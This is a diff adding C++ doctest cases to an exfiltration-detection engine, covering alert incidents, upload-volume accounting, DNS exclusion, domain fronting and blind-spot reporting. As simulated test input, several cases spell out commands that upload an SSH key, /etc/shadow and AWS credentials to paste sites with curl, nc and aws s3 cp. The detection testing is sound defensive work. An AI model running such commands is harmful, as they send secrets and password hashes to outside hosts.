@@ -3,6 +3,8 @@
 // binaries, event orders, pid reuse, windows, caps).
 #include <doctest/doctest.h>
 
+#include <fmt/format.h>
+
 #include "timeline.hpp"
 
 using namespace exfilwatch;
@@ -679,4 +681,384 @@ TEST_CASE("memory stays bounded and evictions are counted")
     CHECK(s.evicted_pairs > 0);
     CHECK(s.evicted_staged_files > 0);
     CHECK(s.events > 1000);
+}
+
+namespace {
+
+// `flows` UDP-like flows from `uploaders` processes of the session, each to its own address with
+// a few bytes out; then `reads` sensitive reads by other processes of the same session. Returns
+// the evaluations the reads cost.
+std::uint64_t read_work(std::size_t uploaders, std::size_t flows, std::size_t reads)
+{
+    Timeline tl;
+    std::vector<ProcessRef> ups;
+    for (std::size_t i = 0; i < uploaders; ++i) ups.push_back(tl.spawn(tl.shell, {"python3", "flood.py"}));
+    for (std::size_t i = 0; i < flows; ++i) {
+        const auto& p = ups[i % ups.size()];
+        FlowSummaryEvent s;
+        s.time = tl.t;
+        s.process = p;
+        s.flow.socket_cookie = 100'000 + i;
+        s.transport = Transport::udp;
+        s.destination = {fmt::format("10.{}.{}.{}", (i >> 16) & 255, (i >> 8) & 255, i & 255), 9999};
+        s.bytes_out = 64;
+        s.final = false;
+        tl.feed(s);
+        tl.step();
+    }
+    auto before = tl.engine.stats();
+    for (std::size_t i = 0; i < reads; ++i) {
+        auto cat = tl.spawn(tl.shell, {"cat", key});
+        tl.read(cat, key, 400);
+        tl.exit(cat);
+    }
+    auto after = tl.engine.stats();
+    CHECK(after.pairs >= std::min<std::uint64_t>(flows, tl.engine.rules().settings.max_pairs) / 2);
+    CHECK(tl.alerts.empty());  // nothing uploaded the key
+    return after.evaluations - before.evaluations;
+}
+
+}  // namespace
+
+TEST_CASE("bounded work: a read re-scores a bounded number of pairs however many are live")
+{
+    // One process with many flows, and many processes with a few each: both in the reader's session.
+    auto small_one = read_work(1, 200, 50);
+    auto large_one = read_work(1, 4000, 50);
+    auto small_many = read_work(100, 1000, 50);
+    auto large_many = read_work(400, 4000, 50);
+    MESSAGE("evaluations for 50 reads: ", small_one, " ", large_one, " ", small_many, " ", large_many);
+    CHECK(large_one == small_one);
+    CHECK(large_many == small_many);
+    // Per read: at most max uploaders x pairs each (16 x 8), two records per read (open, summary).
+    CHECK(large_many <= 50 * 2 * 16 * 8);
+}
+
+TEST_CASE("bounded work: a read after the upload still re-scores the uploader among thousands of pairs")
+{
+    Timeline tl;
+    auto noisy = tl.spawn(tl.shell, {"python3", "flood.py"});
+    for (std::size_t i = 0; i < 3000; ++i) {
+        FlowSummaryEvent s;
+        s.time = tl.t;
+        s.process = noisy;
+        s.flow.socket_cookie = 200'000 + i;
+        s.destination = {fmt::format("10.0.{}.{}", (i >> 8) & 255, i & 255), 9999};
+        s.bytes_out = 64;
+        tl.feed(s);
+        tl.step();
+    }
+    // cat key | curl: curl's upload closes before cat's byte count arrives.
+    const std::uint64_t pipe = 77001;
+    auto cat = tl.spawn(tl.shell, {"cat", key}, {}, 0, 0, pipe);
+    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "--data-binary", "@-", "https://paste.rs:8443/"}, {}, 0, pipe);
+    tl.open_read(cat, key);
+    tl.transfer(curl, "paste.rs", 900 + 1200, 400);
+    auto with_volume = [&] {
+        return std::count_if(tl.alerts.begin(), tl.alerts.end(),
+                             [&](const Alert& a) { return tl.has_signal(a, "data-volume"); });
+    };
+    CHECK(with_volume() == 0);  // the key's size is not known yet
+    tl.summary(cat, key, 900);
+    CHECK(with_volume() == 1);  // the read re-scored curl's closed upload
+    expect_alert(tl, "T1567.003", "paste");
+}
+
+namespace {
+
+FlowSummaryEvent raw_flow(const ProcessRef& p, std::uint64_t cookie, Endpoint dest, std::uint64_t out, bool final,
+                          Transport transport = Transport::tcp)
+{
+    FlowSummaryEvent s;
+    s.process = p;
+    s.flow.socket_cookie = cookie;
+    s.transport = transport;
+    s.source = {"127.0.0.1", 41000};
+    s.destination = std::move(dest);
+    s.bytes_out = out;
+    s.bytes_in = 40;
+    s.final = final;
+    return s;
+}
+
+}  // namespace
+
+TEST_CASE("incidents: one alert per lineage and destination, rising scores update it with the same id")
+{
+    Timeline tl;
+    auto opened = [&] {
+        return std::count_if(tl.alerts.begin(), tl.alerts.end(), [](const Alert& a) { return !a.incident_update; });
+    };
+    // Two uploads of the key from one session to one code host: one incident.
+    auto curl = tl.spawn(tl.shell, {"curl", "-F", "f=@" + key, "https://gist.github.com:8443/"});
+    tl.read(curl, key, 900);
+    tl.transfer(curl, "gist.github.com", 2000, 300);
+    tl.exit(curl);
+    REQUIRE(opened() == 1);
+    const auto id = tl.alerts[0].incident_id;
+    CHECK(id.size() == 16);
+    for (const auto& a : tl.alerts) CHECK(a.incident_id == id);
+    const auto after_first = tl.alerts.size();
+    auto again = tl.spawn(tl.shell, {"curl", "-F", "f=@" + key, "https://gist.github.com:8443/"});
+    tl.read(again, key, 900);
+    tl.transfer(again, "gist.github.com", 2000, 300);
+    CHECK(tl.alerts.size() == after_first);  // the same score: no new alert
+    // The lineage reads more: the score rises, the incident is updated.
+    auto more = tl.spawn(tl.shell, {"curl", "-F", "a=@/etc/shadow", "-F", "b=@" + home + "/.aws/credentials",
+                                    "-F", "c=@" + key, "https://gist.github.com:8443/"});
+    tl.read(more, "/etc/shadow", 1200);
+    tl.read(more, home + "/.aws/credentials", 400);
+    tl.read(more, key, 900);
+    tl.transfer(more, "gist.github.com", 700 + 2500 + 300'000, 300);
+    REQUIRE(tl.alerts.size() > after_first);
+    CHECK(opened() == 1);
+    CHECK(tl.alerts.back().incident_update);
+    CHECK(tl.alerts.back().incident_id == id);
+    CHECK(tl.alerts.back().risk_score > tl.alerts[after_first - 1].risk_score);
+    CHECK(tl.engine.stats().incidents == 1);
+
+    // Its twin: the same session to another destination is another incident.
+    const auto before_other = tl.alerts.size();
+    auto other = tl.spawn(tl.shell, {"curl", "-F", "f=@" + key, "https://dpaste.com:8443/"});
+    tl.read(other, key, 900);
+    tl.transfer(other, "dpaste.com", 700 + 900, 300);
+    REQUIRE(tl.alerts.size() > before_other);
+    CHECK_FALSE(tl.alerts[before_other].incident_update);
+    CHECK(tl.alerts[before_other].incident_id != id);
+    CHECK(opened() == 2);
+}
+
+TEST_CASE("incidents: ids are the same on a replay of the same events")
+{
+    auto run = [] {
+        Timeline tl;
+        auto curl = tl.spawn(tl.shell, {"curl", "-F", "f=@" + key, "https://paste.rs:8443/"});
+        tl.read(curl, key, 900);
+        tl.transfer(curl, "paste.rs", 700 + 900, 300);
+        REQUIRE_FALSE(tl.alerts.empty());
+        return tl.alerts[0].incident_id;
+    };
+    CHECK(run() == run());
+}
+
+TEST_CASE("incidents: no alert on handshake bytes before data moves")
+{
+    Timeline tl;
+    auto curl = tl.spawn(tl.shell, {"curl", "-F", "f=@" + key, "https://paste.rs:8443/"});
+    tl.read(curl, key, 900);
+    auto f = tl.connect(curl, "paste.rs");
+    tl.flow(curl, f, "paste.rs", 400, 3000, false);  // ClientHello: the upload command sent nothing yet
+    CHECK(tl.alerts.empty());
+    tl.flow(curl, f, "paste.rs", 400 + 900 + 300, 3000, true);  // the key went
+    REQUIRE(tl.alerts.size() == 1);
+    CHECK(tl.alerts[0].subtechnique_id == "T1567.003");
+}
+
+TEST_CASE("DNS is never an upload: queries to port 53 and a resolver's answers; the same bytes elsewhere alert")
+{
+    auto run = [](std::uint16_t dest_port, std::uint16_t source_port) {
+        Timeline tl;
+        const std::uint64_t pipe = 88001;
+        auto cat = tl.spawn(tl.shell, {"cat", key}, {}, 0, 0, pipe);
+        auto nc = tl.spawn(tl.shell, {"nc", "-u", "127.0.0.2", std::to_string(dest_port)}, {}, 0, pipe);
+        tl.read(cat, key, 900);
+        auto s = raw_flow(nc, 5, {"127.0.0.2", dest_port}, 126 + 900, false, Transport::udp);
+        s.source.port = source_port;
+        s.time = tl.t;
+        tl.feed(s);
+        tl.step();
+        s.final = true;
+        s.time = tl.t;
+        tl.feed(s);
+        return tl.alerts;
+    };
+    CHECK(run(53, 41000).empty());
+    CHECK(run(41000, 53).empty());  // the resolver's own traffic
+    auto elsewhere = run(9000, 41000);
+    REQUIRE_FALSE(elsewhere.empty());
+    // No name at all: still T1567, with the address.
+    CHECK(elsewhere[0].technique_id == "T1567");
+    CHECK(elsewhere[0].destination.ip == "127.0.0.2");
+    CHECK(elsewhere[0].destination_domain.empty());
+    CHECK(elsewhere[0].reason.find("127.0.0.2") != std::string::npos);
+}
+
+TEST_CASE("the reason names the tool an interpreter runs: aws, not python3")
+{
+    Timeline tl;
+    auto aws = tl.spawn(tl.shell,
+                        {"/usr/bin/python3", "/usr/bin/aws", "s3", "cp", home + "/.aws/credentials", "s3://drop/"},
+                        "/usr/bin/python3.11");
+    tl.read(aws, home + "/.aws/credentials", 2100);
+    tl.transfer(aws, "drop.s3.us-east-1.amazonaws.com", 700 + 2100 + 500, 1200);
+    REQUIRE_FALSE(tl.alerts.empty());
+    CHECK(tl.alerts[0].reason.rfind("aws uploaded", 0) == 0);
+    // A script with an extension stays its interpreter's.
+    ProcessRef py;
+    py.name = "python3.11";
+    py.args = {"python3", "upload.py"};
+    CHECK(display_name(py) == "python3");
+}
+
+TEST_CASE("volume: trickles over many child processes add up per lineage and destination; handshakes alone do not")
+{
+    auto run = [](std::uint64_t per_child_out) {
+        Timeline tl;
+        auto script = tl.spawn(tl.shell, {"python3", "chunks.py"});
+        tl.read(script, key, 2000);
+        for (int i = 0; i < 10; ++i) {
+            auto child = tl.spawn(script, {"python3", "send.py"});
+            tl.transfer(child, "paste.rs", per_child_out, 200);
+            tl.exit(child);
+        }
+        return tl;
+    };
+    auto trickle = run(512 + 300);  // 300 bytes of data after each handshake: 3000 in all
+    REQUIRE_FALSE(trickle.alerts.empty());
+    const auto& a = trickle.alerts.back();
+    CHECK(a.subtechnique_id == "T1567.003");
+    CHECK(trickle.has_signal(a, "data-volume"));
+    auto handshakes = run(500);  // handshakes only
+    CHECK(handshakes.alerts.empty());
+}
+
+TEST_CASE("volume: receiving a lot does not offset what was sent; a download that sent little stays silent")
+{
+    Timeline padded;
+    auto up = padded.spawn(padded.shell, {"python3", "send.py"});
+    padded.read(up, key, 2000);
+    padded.transfer(up, "paste.rs", 512 + 2000 + 100, 2'000'000);
+    REQUIRE_FALSE(padded.alerts.empty());
+    CHECK_FALSE(padded.has_signal(padded.alerts.back(), "download-shaped"));
+
+    Timeline download;
+    auto fetch = download.spawn(download.shell, {"python3", "fetch.py"});
+    download.read(fetch, key, 2000);
+    download.transfer(fetch, "paste.rs", 600, 2'000'000);
+    CHECK(download.alerts.empty());
+}
+
+TEST_CASE("volume: the sensitive bytes count, not the size of a small staging file")
+{
+    auto run = [](std::uint64_t out) {
+        Timeline tl;
+        auto writer = tl.spawn(tl.shell, {"python3", "pack.py"}, {}, 0, 0, 0, StdoutKind::other);
+        tl.read(writer, key, 2000);
+        tl.open_write(writer, "/tmp/ref", 7001);
+        tl.exit(writer);
+        auto up = tl.spawn(tl.shell, {"python3", "send.py"});
+        tl.read(up, "/tmp/ref", 41, 7001);
+        tl.transfer(up, "paste.rs", out, 300);
+        return tl.alerts;
+    };
+    CHECK(run(512 + 41 + 20).empty());    // the 41-byte file left, not the key
+    CHECK_FALSE(run(512 + 2100).empty());  // enough for the key
+}
+
+TEST_CASE("names: when SNI and HTTP Host disagree (domain fronting) the riskier category counts")
+{
+    auto run = [](bool fronted) {
+        Timeline tl;
+        auto up = tl.spawn(tl.shell, {"python3", "send.py"});
+        tl.read(up, key, 2000);
+        auto f = tl.connect(up, "cdn.example.net");  // SNI
+        if (fronted) {
+            HttpRequestEvent h;
+            h.time = tl.t;
+            h.process = up;
+            h.flow.socket_cookie = f.cookie;
+            h.destination = f.dest;
+            h.method = "POST";
+            h.host = "paste.rs";
+            h.path = "/";
+            tl.feed(h);
+            tl.step();
+        }
+        tl.flow(up, f, "cdn.example.net", 512 + 128 + 2100, 300, true);
+        return tl.alerts;
+    };
+    auto fronted = run(true);
+    REQUIRE_FALSE(fronted.empty());
+    CHECK(fronted.back().subtechnique_id == "T1567.003");
+    CHECK(fronted.back().destination_domain == "paste.rs");
+    bool named = false;
+    for (const auto& s : fronted.back().signals)
+        if (s.name == "destination-paste") named = s.evidence.find("also named cdn.example.net") != std::string::npos;
+    CHECK(named);
+    auto plain = run(false);
+    for (const auto& a : plain) CHECK(a.subtechnique_id.empty());  // an unknown CDN: T1567 at most
+}
+
+TEST_CASE("blind spots: a loss while a lineage holds sensitive data is reported, with the holders")
+{
+    Timeline tl;
+    tl.engine.note_loss(tl.t, "ringbuf_full", 40);
+    CHECK(tl.engine.take_blind_spots().empty());  // nothing sensitive at stake: counted elsewhere only
+    auto cat = tl.spawn(tl.shell, {"cat", key});
+    tl.read(cat, key, 400);
+    tl.engine.note_loss(tl.t, "ringbuf_full", 40);
+    tl.engine.note_loss(tl.t + 1000, "ringbuf_full", 2);  // the same second: one record
+    auto spots = tl.engine.take_blind_spots();
+    REQUIRE(spots.size() == 1);
+    CHECK(spots[0].cause == "ringbuf_full");
+    CHECK(spots[0].lost == 42);
+    REQUIRE(spots[0].processes.size() == 1);
+    CHECK(spots[0].processes[0].entity_id == cat.entity_id);
+    CHECK(spots[0].detail.find("held sensitive data") != std::string::npos);
+    CHECK(tl.engine.take_blind_spots().empty());  // drained
+    tl.engine.note_loss(tl.t + 2'000'000'000ULL, "ringbuf_full", 1);
+    CHECK(tl.engine.take_blind_spots().size() == 1);
+    CHECK(tl.engine.stats().blind_spots == 2);
+}
+
+TEST_CASE("blind spots: a running process holding sensitive data evicted from a full lineage; one that exited is not")
+{
+    auto run = [](bool holder_exits) {
+        auto rules = builtin();
+        rules.settings.max_processes = 32;
+        Timeline tl(std::move(rules));
+        auto holder = tl.spawn(tl.shell, {"python3", "keep.py"});
+        tl.read(holder, key, 400);
+        if (holder_exits) tl.exit(holder);
+        for (int i = 0; i < 200; ++i) {
+            tl.spawn(tl.shell, {"true"});
+            tl.step(20);  // crosses the engine's once-a-second expiry
+        }
+        std::vector<BlindSpot> evicted;
+        for (auto& b : tl.engine.take_blind_spots())
+            if (b.cause == "taint_evicted") evicted.push_back(std::move(b));
+        return evicted;
+    };
+    auto running = run(false);
+    REQUIRE(running.size() == 1);
+    CHECK(running[0].lost == 1);
+    REQUIRE_FALSE(running[0].processes.empty());
+    CHECK(running[0].processes[0].args[1] == "keep.py");
+    // Its twin: the holder ended; the lineage forgetting it is not a loss. (Its exit is recorded
+    // before the flood; the trim may still take it: then it is forgotten, not reported.)
+    CHECK(run(true).empty());
+}
+
+TEST_CASE("blind spots: the work bound shed while a sensitive read happened is reported")
+{
+    Timeline tl;
+    auto ups = std::vector<ProcessRef>{};
+    for (int i = 0; i < 40; ++i) ups.push_back(tl.spawn(tl.shell, {"python3", "flood.py"}));
+    for (std::size_t i = 0; i < 400; ++i) {
+        FlowSummaryEvent s;
+        s.time = tl.t;
+        s.process = ups[i % ups.size()];
+        s.flow.socket_cookie = 300'000 + i;
+        s.destination = {fmt::format("10.1.{}.{}", (i >> 8) & 255, i & 255), 9999};
+        s.bytes_out = 64;
+        tl.feed(s);
+        tl.step();
+    }
+    CHECK(tl.engine.take_blind_spots().empty());
+    auto cat = tl.spawn(tl.shell, {"cat", key});
+    tl.read(cat, key, 400);
+    auto spots = tl.engine.take_blind_spots();
+    REQUIRE(spots.size() == 1);
+    CHECK(spots[0].cause == "rescore_bounded");
+    CHECK(spots[0].lost > 0);
 }
